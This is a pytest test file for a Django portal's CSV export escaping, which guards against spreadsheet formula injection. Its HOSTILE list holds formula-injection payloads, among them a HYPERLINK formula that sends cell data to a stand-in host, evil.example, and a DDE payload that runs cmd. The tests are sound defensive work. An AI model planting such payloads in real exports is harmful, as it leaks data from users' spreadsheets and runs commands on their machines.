"""CSV injection: no cell the portal writes can run as a spreadsheet formula."""

import csv
import io
from datetime import date
from decimal import Decimal
from fractions import Fraction

import pytest
from django.utils.translation import gettext_lazy

from wenzhou_portal.csv_export import SafeWriter, csv_download, safe_cell, safe_row

HOSTILE = [
    "=1+2",
    '=HYPERLINK("https://evil.example/?"&A1,"点击")',
    "+1+1",
    "-1+1",
    "-3 days",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    "=",
    "-",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [3, -3, 0, 2.5, -0.25, Decimal("-12.50"), Fraction(-1, 2), 10**20, float("-inf")],
)
def test_numbers_stay_numbers_negative_ones_too(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize("text", ["-3", "+3", "-3.25", "12", "0001"])
def test_text_that_is_only_a_number_is_read_as_that_number_and_left_alone(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("周同学", "周同学"),
        ("a=1+2", "a=1+2"),
        (" =1+2", " =1+2"),
        ("'=1+2", "'=1+2"),
        ("", ""),
        (None, ""),
        (date(2025, 5, 1), "2025-05-01"),
        (gettext_lazy("活动"), "活动"),
        (True, True),
    ],
)
def test_other_values_are_written_as_their_text(value, cell):
    assert safe_cell(value) == cell


def test_escaping_twice_changes_nothing():
    for value in [*HOSTILE, -3, "-3", None, "周同学"]:
        assert safe_cell(safe_cell(value)) == safe_cell(value)


def test_a_lazy_translation_starting_with_a_formula_character_is_escaped_too():
    assert safe_cell(gettext_lazy("=1+2")) == "'=1+2"


def test_safe_row_escapes_each_cell():
    assert safe_row(["=1+2", -3, None, "周"]) == ["'=1+2", -3, "", "周"]


def _parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_the_writer_escapes_every_cell_and_returns_what_csv_writer_returns():
    class Echo:
        def write(self, text: str) -> str:
            return text

    buffer = io.StringIO()
    writer = SafeWriter(buffer)
    writer.writerow(["=1+2", -3, 1.5])
    writer.writerows([["@x", "-3 days"], ["\t=cmd", "ok"]])
    assert _parse(buffer.getvalue()) == [
        ["'=1+2", "-3", "1.5"],
        ["'@x", "'-3 days"],
        ["'\t=cmd", "ok"],
    ]
    assert SafeWriter(Echo()).writerow(["=1", 2]) == "'=1,2\r\n"


def test_a_download_is_a_utf8_attachment_with_every_cell_made_safe():
    response = csv_download([["姓名", "人数"], ["=1+2", -3]], filename="attendees.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="attendees.csv"'
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    assert _parse(text.removeprefix("\ufeff")) == [["姓名", "人数"], ["'=1+2", "-3"]]


def test_a_carriage_return_inside_a_cell_stays_inside_that_cell():
    response = csv_download([["\r=1+2\r\n=3+4", "next"]], filename="x.csv")
    rows = _parse(response.content.decode("utf-8").removeprefix("\ufeff"))
    assert rows == [["'\r=1+2\r\n=3+4", "next"]]
